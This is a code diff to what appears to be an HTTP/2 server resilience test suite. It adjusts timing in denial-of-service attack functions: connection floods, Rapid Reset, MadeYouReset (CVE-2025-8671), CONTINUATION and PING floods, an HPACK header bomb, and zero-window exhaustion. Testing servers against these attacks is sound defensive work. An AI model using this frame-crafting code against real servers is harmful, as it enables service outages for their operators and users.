@@ -25,8 +25,9 @@ def is_over(client):
     return client.closed or client.goaway is not None
 
 
-def flood(pieces):
-    """An attack of one HTTP/2 connection after the other, each sent what `pieces(client)` yields until it is ended."""
+def flood(pieces, patience=10):
+    """An attack of one HTTP/2 connection after the other, each sent what `pieces(client)` yields until it is ended; the
+    first has `patience` seconds more."""
 
     def attack(port, until):
         count = 0
@@ -35,8 +36,9 @@ def flood(pieces):
             with h2.Client(port) as client:
                 client.settle()
                 client.socket.settimeout(2)
+                last = until + patience if count == 1 else until
                 for data in itertools.islice(pieces(client), PIECES):
-                    if time.monotonic() > until or not send(client, data) or is_over(client):
+                    if time.monotonic() > last or not send(client, data) or is_over(client):
                         break
                     client.read_some(0)
         return count
@@ -65,7 +67,7 @@ def rapid_reset(client):
 
 
 def made_you_reset(client):
-    """CVE-2025-8671: frames after which it is the server that resets."""
+    """CVE-2025-8671: frames after which it is the server that resets; below the limit of concurrent streams."""
     more = [("content-length", "5"), ("content-type", "application/json")]
     provocations = itertools.cycle([
         lambda stream: h2.frame(h2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF)),
@@ -78,6 +80,8 @@ def made_you_reset(client):
             stream, request = client.request_frames("/v1/users", "POST", more, end=False)
             data += request + next(provocations)(stream)
         yield data
+        while client.answers[stream].reset is None and not is_over(client) and client.read_some(1):
+            pass
 
 
 def continuation(client):
@@ -154,6 +158,7 @@ def zero_window(port, until):
         clients = [h2.Client(port, settings=[(h2.INITIAL_WINDOW_SIZE, 0)], window=False) for _ in range(5)]
         count += len(clients)
         for client in clients:
+            client.settle()
             for _ in range(100):
                 client.request(path)
         while time.monotonic() < until and not all(is_stopped(client) for client in clients):
@@ -329,7 +334,7 @@ ATTACKS = {
     "CONTINUATION, empty": Attack(flood(continuation), "control_frames"),
     "CONTINUATION, large": Attack(flood(large_continuation), "control_frames"),
     "header bomb by HPACK": Attack(flood(header_bomb), "headers"),
-    "header bombs within the limits": Attack(flood(quiet_header_bomb), None, waits=True),
+    "header bombs within the limits": Attack(flood(quiet_header_bomb, patience=0), None, waits=True),
     "SETTINGS": Attack(flood(settings), "control_frames"),
     "PING": Attack(flood(pings), "control_frames"),
     "PING, answers unread": Attack(unread_pings, "control_frames"),
